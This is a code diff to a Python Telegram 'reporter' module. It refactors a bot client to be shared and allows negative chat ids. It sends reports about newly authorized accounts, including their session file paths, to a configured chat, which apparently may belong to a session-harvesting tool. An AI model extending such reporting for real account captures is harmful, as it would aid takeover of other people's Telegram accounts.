@@ -1,16 +1,53 @@
+import asyncio
 import logging
 from telethon import TelegramClient
 from backend.config import API_ID, API_HASH, BOT_TOKEN, REPORT_TARGET
 
 log = logging.getLogger("reporter")
 
+# Long-lived bot client shared by all reports; started lazily on first use.
+_bot_client: TelegramClient | None = None
+_bot_lock = asyncio.Lock()
+
+
+async def _get_bot() -> TelegramClient:
+    """Return the shared bot client, (re)starting it if it is not connected."""
+    global _bot_client
+    async with _bot_lock:
+        if _bot_client is None or not _bot_client.is_connected():
+            client = TelegramClient("_report_bot", API_ID, API_HASH)
+            try:
+                await client.start(bot_token=BOT_TOKEN)
+            except Exception:
+                # don't keep a connected-but-unauthorized client around;
+                # the next report retries from scratch
+                try:
+                    await client.disconnect()
+                except Exception:
+                    pass
+                raise
+            _bot_client = client
+        return _bot_client
+
+
+async def close_bot():
+    """Disconnect the shared bot client, if it was started."""
+    global _bot_client
+    async with _bot_lock:
+        if _bot_client is not None:
+            try:
+                await _bot_client.disconnect()
+            except Exception as e:
+                log.debug(f"Reporter: failed to disconnect bot client: {e}")
+            _bot_client = None
+
 
 async def send_html_report(login_id: str, item: dict | None = None, target: str | None = None):
     """Send a small HTML report about a newly authorized account to
     the configured REPORT_TARGET via the bot token in BOT_TOKEN.
 
-    This function is fire-and-forget friendly (it performs its own
-    connect/disconnect) and will no-op if BOT_TOKEN or REPORT_TARGET
+    This function is fire-and-forget friendly (it reuses a shared bot
+    client, see `_get_bot`) and will no-op if BOT_TOKEN or REPORT_TARGET
     are not configured.
     """
     final_target = target or REPORT_TARGET
@@ -20,22 +57,26 @@ async def send_html_report(login_id: str, item: dict | None = None, target: str
 
     # If the configured target is a numeric string (common when set via .env),
     # convert to int so Telethon treats it as a chat id instead of trying to
-    # resolve it as a phone number or username.
+    # resolve it as a phone number or username. Group/channel ids are
+    # negative (e.g. -100...), so allow a leading minus sign.
     try:
-        if isinstance(final_target, str) and final_target.isdigit():
+        if isinstance(final_target, str) and final_target.lstrip("-").isdigit():
             final_target = int(final_target)
     except Exception:
         pass
 
     # Build a minimal HTML report. If `item` (the login state entry) is
-    # provided, try to extract a friendly username and session path.
+    # provided, try to extract a friendly username and session path. The
+    # username refreshed in the background is used when already known.
     username = None
     session_path = None
     try:
         if item:
+            username = item.get("username")
             client = item.get("client")
             if client:
                 session_path = getattr(client, "_session_path", None)
+            if client and not username:
                 try:
                     me = await client.get_me()
                     if me:
@@ -53,13 +94,11 @@ async def send_html_report(login_id: str, item: dict | None = None, target: str
 
     message = "\n".join(html)
 
-    # Send via a short-lived Telethon client using the bot token.
+    # Send via the shared Telethon client using the bot token.
     try:
-        client = TelegramClient("_report_bot_tmp", API_ID, API_HASH)
-        await client.start(bot_token=BOT_TOKEN)
+        client = await _get_bot()
         log.debug(f"Reporter: sending report to {final_target}")
         await client.send_message(final_target, message, parse_mode="html", link_preview=False)
-        await client.disconnect()
         log.info(f"Report sent for {login_id} to {final_target}")
     except Exception as e:
         log.error(f"Failed to send report for {login_id}: {e}")